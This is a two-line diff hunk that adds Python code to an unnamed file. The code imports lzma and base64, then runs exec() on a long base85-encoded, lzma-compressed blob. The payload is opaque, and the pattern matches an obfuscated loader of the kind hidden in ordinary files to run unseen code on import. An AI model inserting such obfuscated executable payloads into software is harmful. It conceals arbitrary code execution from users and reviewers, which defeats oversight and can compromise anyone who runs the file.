@@ -1,0 +1,2 @@
+import lzma,base64
+exec(lzma.decompress(base64.b85decode("T>t=p0RR90|NsC0{{S?bN@uuIJagyIr-7zcmEk=~fjo03Ty=CIiI6vPT7*=b7A!yKO~S)&dUFC_HW<~MV`@!;3-F3ucvum>-{$X%!}q|A#Ry6vhSwbP5c}e)Bzk17(lh<#Xbb6JC5GWBhyL*Z?+cp?fW|qgyD`N@1e+v|x+w}+9Vo5mI{F^0hNE1gb4~u)+S`G2o3w><<jr&++i~*hiz1r{1BN-c3l3X*Ei*tngJ}6YAZ4|H09<>A>^=pwsf202jitc*|4#_0S$?t?+_D|DKbL>4lNe-%Sq>*CSmaC6E3m|iqlB68df~K-o<i@Kql$t*TX!&ub5yy<%;eK4^S4p%L;LkuXWbI9R9m`OE^hS%Uj_=O;s@>&Vp`zJZVRwd4MQOaXh~$$@W=RTqk4;tV-Ls5Qt=?{zifqnU)L|!dHz%|*8")))
